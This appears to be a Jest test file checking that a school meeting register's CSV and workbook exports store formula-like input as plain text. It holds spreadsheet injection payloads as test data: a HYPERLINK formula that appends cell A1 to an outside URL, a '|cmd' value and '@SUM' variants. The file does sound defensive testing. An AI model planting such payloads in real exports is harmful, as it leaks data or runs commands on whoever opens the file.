import { expect, test } from '@jest/globals';
import { strFromU8, unzipSync } from 'fflate';
import type { ExportRow } from '../../bot/views/export-row.ts';
import { csvOf } from '../../tab/register/export/csv.ts';
import type { Taken } from '../../tab/register/export/use-export.ts';
import { xlsxOf } from '../../tab/register/export/xlsx.ts';

// What somebody typed is text in a file too, whatever a spreadsheet would make of it.

const hyperlink = '=HYPERLINK("https://example.net/?"&A1,"Click")';
const row = (role: string): ExportRow => ({
  reference: 'TAC-AAAAAAA1',
  kind: 'Team Around the Child meeting',
  start: '2026-11-24T15:15:00Z',
  minutes: 45,
  initials: 'AB',
  year: 'Year 4',
  host: 'Maya Okafor',
  guests: [{ role, agency: 'Family' }],
  status: 'arranged',
  seal: { state: 'sealed', readBackAt: '2026-11-18T10:00:05Z', says: 'Every safeguard read back as asked.' },
  exceptions: [],
  authorisedBy: [],
});
const taken = (role: string): Taken => ({
  wish: { format: 'xlsx', reason: '=1+1 for the governors', filter: {} },
  begun: {
    id: 'EXP-1',
    school: 'A school',
    by: 'Maya Okafor',
    at: '2026-11-20T09:00:00Z',
    until: '2026-11-20T10:00:00Z',
  },
  rows: [row(role)],
  unreadable: 0,
  left: null,
  isAll: true,
});
/** jsdom's Blob cannot be read otherwise. */
const bytesOf = (file: Blob) =>
  new Promise<Uint8Array>((read) => {
    const reader = new FileReader();
    reader.onload = () => {
      read(new Uint8Array(reader.result as ArrayBuffer)); // what readAsArrayBuffer gives
    };
    reader.readAsArrayBuffer(file);
  });

test.each([hyperlink, '+1', '-1', '@SUM(A1)', '\t=1+1', `=1+1\n${hyperlink}`, '  =1+1', '|cmd'])(
  'a CSV file holds %j as text',
  async (role) => {
    const bytes = await bytesOf(csvOf([row(role)]));
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = strFromU8(bytes);
    expect(text).toContain("'");
    expect(text).not.toMatch(/(^|,)"?\s*[=+@|\t-]/);
  },
);

test('a workbook holds what looks like a formula as text, on each of its sheets', async () => {
  const files = unzipSync(await bytesOf(await xlsxOf(taken(hyperlink))));
  const sheets = Object.keys(files).filter((name) => name.startsWith('xl/worksheets/sheet'));
  expect(sheets).toHaveLength(2);
  for (const name of sheets) expect(strFromU8(files[name] ?? new Uint8Array())).not.toMatch(/<f[ >]/);
  const all = Object.values(files)
    .map((file) => strFromU8(file))
    .join('');
  expect(all).toContain('HYPERLINK');
  expect(all).toContain('2026-11-24');
});
